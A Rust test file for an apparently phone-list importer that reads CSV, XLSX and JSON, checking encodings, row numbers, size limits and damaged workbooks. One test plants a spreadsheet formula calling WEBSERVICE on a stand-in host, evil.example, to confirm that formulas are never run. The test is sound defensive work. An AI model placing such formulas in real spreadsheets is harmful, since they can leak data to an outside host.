use super::*;
use rust_xlsxwriter::{ExcelDateTime, Format, Formula, Workbook};

fn rows(bytes: &[u8], form: ListForm) -> Vec<(u64, Vec<String>)> {
    read(bytes, form, None).unwrap().rows.into_iter().map(|row| (row.number, row.cells)).collect()
}

fn cells(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

#[test]
fn csv_of_any_spreadsheet_is_read() {
    let expected = [(1, cells(&["שם", "phone"])), (2, cells(&["Lee, Ann", "050-2345678"]))];
    let comma = "שם,phone\r\n\"Lee, Ann\",050-2345678\r\n";
    let semicolon = "\u{FEFF}שם;phone\n\"Lee, Ann\";050-2345678\n";
    let tab = "שם\tphone\r\n\"Lee, Ann\"\t050-2345678";
    for text in [comma, semicolon, tab] {
        assert_eq!(rows(text.as_bytes(), ListForm::Csv), expected, "{text:?}");
    }
    let wide: Vec<u8> =
        [0xFF, 0xFE].into_iter().chain(tab.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    assert_eq!(rows(&wide, ListForm::Csv), expected);
}

/// A row with this name, read as CSV; its name, and the encoding that was taken.
fn named(name: &[u8], said: Option<Encoding>) -> Result<(String, Encoding), BadList> {
    let list = read(&[b"phone,name\n1,", name, b"\n"].concat(), ListForm::Csv, said)?;
    Ok((list.rows[1].cells[1].clone(), list.encoding.unwrap()))
}

#[test]
fn hebrew_of_an_older_spreadsheet_is_read_without_a_word() {
    let taken = |name: &str| Ok((name.to_owned(), Encoding::Windows1255));
    assert_eq!(named(b"\xe3\xf0\xe4 \xeb\xe4\xef", None), taken("דנה כהן"));
    assert_eq!(named(b"\xf6\xd7 \xe0\xe1\xe2, Ann", None).unwrap().1, Encoding::Windows1255);
    // What is UTF-8 is that, whatever is said.
    let utf8 = named("דנה".as_bytes(), Some(Encoding::Windows1255));
    assert_eq!(utf8, Ok(("דנה".to_owned(), Encoding::Utf8)));
}

#[test]
fn what_may_be_of_another_language_is_not_guessed_and_is_read_when_somebody_says_what_it_is() {
    for (bytes, name) in
        [(&b"Jos\xe9"[..], "José"), (b"\xe9t\xe9", "été"), (b"\xe0", "à"), (b"M\xfcller", "Müller")]
    {
        assert_eq!(named(bytes, None), Err(BadList::Encoding), "{name}");
        let said = named(bytes, Some(Encoding::Windows1252));
        assert_eq!(said, Ok((name.to_owned(), Encoding::Windows1252)));
    }
    assert_eq!(
        named(b"\xe3\xff", Some(Encoding::Windows1255)),
        Err(BadList::NotSo(Encoding::Windows1255)),
        "no letter"
    );
    assert_eq!(named(b"\xe3\xf0", Some(Encoding::Utf8)), Err(BadList::NotSo(Encoding::Utf8)));
}

#[test]
fn rows_have_the_numbers_that_a_spreadsheet_shows() {
    for end in ["\n", "\r\n"] {
        let text = ["phone", "1", "", "", "2", "\"a", "b\"", "3", " ", "4", ""].join(end);
        let numbers: Vec<u64> =
            read(text.as_bytes(), ListForm::Csv, None).unwrap().rows.iter().map(|row| row.number).collect();
        assert_eq!(numbers, [1, 2, 5, 6, 7, 9], "{end:?}: a quoted line break makes no row");
    }
}

#[test]
fn what_we_wrote_against_formulas_comes_back_as_it_was() {
    let read = rows(b"phone,name\n'+972502345678,'Ann\n", ListForm::Csv);
    assert_eq!(read[1].1, ["+972502345678", "'Ann"]);
}

#[test]
fn a_workbook_is_read_as_a_person_sees_it() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, name) in (0..).zip(["phone", "name", "day", "at", "ok"]) {
        sheet.write_string(0, column, name).unwrap();
    }
    sheet.write_number(2, 0, 972_502_345_678.0).unwrap();
    sheet.write_string(2, 1, "דנה").unwrap();
    let day = ExcelDateTime::from_ymd(2026, 11, 21).unwrap();
    sheet.write_with_format(2, 2, &day, &Format::new().set_num_format("yyyy-mm-dd")).unwrap();
    let at = ExcelDateTime::from_hms(9, 30, 0).unwrap();
    sheet.write_with_format(2, 3, &at, &Format::new().set_num_format("hh:mm")).unwrap();
    sheet.write_boolean(2, 4, true).unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let read = rows(&bytes, ListForm::Xlsx);
    assert_eq!(read[0], (1, cells(&["phone", "name", "day", "at", "ok"])));
    assert_eq!(read[1], (3, cells(&["972502345678", "דנה", "2026-11-21", "09:30:00", "true"])));
    assert_eq!(read.len(), 2);
    assert!(matches!(super::read(b"PK\x03\x04 no", ListForm::Xlsx, None), Err(BadList::Workbook(_))));
}

/// What a formula came to when the workbook was saved is what a person sees; nothing is computed here.
#[test]
fn a_formula_is_what_it_came_to_and_is_never_run() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "phone").unwrap();
    sheet.write_formula(1, 0, Formula::new("=A9&\"678\"").set_result("050-2345678")).unwrap();
    sheet.write_number(2, 0, 15_550_100_124.0).unwrap();
    sheet.write_formula(3, 0, Formula::new("=WEBSERVICE(\"http://evil.example\")")).unwrap();
    let read = rows(&book.save_to_buffer().unwrap(), ListForm::Xlsx);
    assert_eq!(read[1], (2, cells(&["050-2345678"])));
    assert_eq!(read[2], (3, cells(&["15550100124"])));
    assert!(read.get(3).is_none_or(|row| !row.1[0].contains("evil")), "{read:?}");
}

/// Wherever a workbook is cut off or a byte of it is turned, it is read or refused, and nothing worse.
#[test]
fn half_a_workbook_is_none_and_a_damaged_one_does_no_harm() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for row in 0..40 {
        sheet.write_string(row, 0, format!("+1555010{row:04}")).unwrap();
    }
    let whole = book.save_to_buffer().unwrap();
    assert_eq!(rows(&whole, ListForm::Xlsx).len(), 40, "the control");
    for cut in (0..whole.len() - 22).step_by(97) {
        assert!(super::read(&whole[..cut], ListForm::Xlsx, None).is_err(), "cut at {cut}");
    }
    for at in (0..whole.len()).step_by(61) {
        let mut damaged = whole.clone();
        damaged[at] ^= 0x55;
        if let Ok(read) = super::read(&damaged, ListForm::Xlsx, None) {
            assert!(read.rows.len() <= 40, "turned at {at}");
        }
    }
}

#[test]
fn json_comes_as_a_list_as_people_or_line_by_line() {
    // The names of an object have no order: here it is that of the alphabet.
    let expected = [(0, cells(&["day", "name", "phone"])), (1, cells(&["Sunday", "Ann", "050"]))];
    let list = r#"[{"name":"Ann","phone":"050","variables":{"day":"Sunday"}}]"#;
    let named = format!(r#"{{"people": {list}}}"#);
    let lines = r#"{"name":"Ann","phone":"050","day":"Sunday"}"#;
    for text in [list, &named, lines] {
        assert_eq!(rows(text.as_bytes(), ListForm::Json), expected, "{text}");
    }
    let mixed = rows(br#"["050", {"to": "051", "n": 3}]"#, ListForm::Json);
    assert_eq!(mixed[0].1, ["phone", "n", "to"]);
    assert_eq!(mixed[2], (2, cells(&["", "3", "051"])));
    for wrong in ["7", "[7]", r#"[{"a":[1]}]"#, "{\"people\":1}", "[{"] {
        assert!(matches!(read(wrong.as_bytes(), ListForm::Json, None), Err(BadList::Json(_))), "{wrong}");
    }
}

#[test]
fn nothing_is_no_list() {
    for (bytes, form) in [(&b""[..], ListForm::Csv), (b"\n\n", ListForm::Csv), (b"[]", ListForm::Json)] {
        assert_eq!(read(bytes, form, None), Err(BadList::Empty));
    }
}

#[test]
fn a_list_is_bounded_in_rows_and_columns() {
    let wide = vec!["x"; MAX_COLUMNS + 1].join(",");
    assert_eq!(read(wide.as_bytes(), ListForm::Csv, None), Err(BadList::TooWide { row: 1 }));
    let long = "1\n".repeat(MAX_ROWS + 2);
    assert_eq!(read(long.as_bytes(), ListForm::Csv, None), Err(BadList::TooManyRows));
}
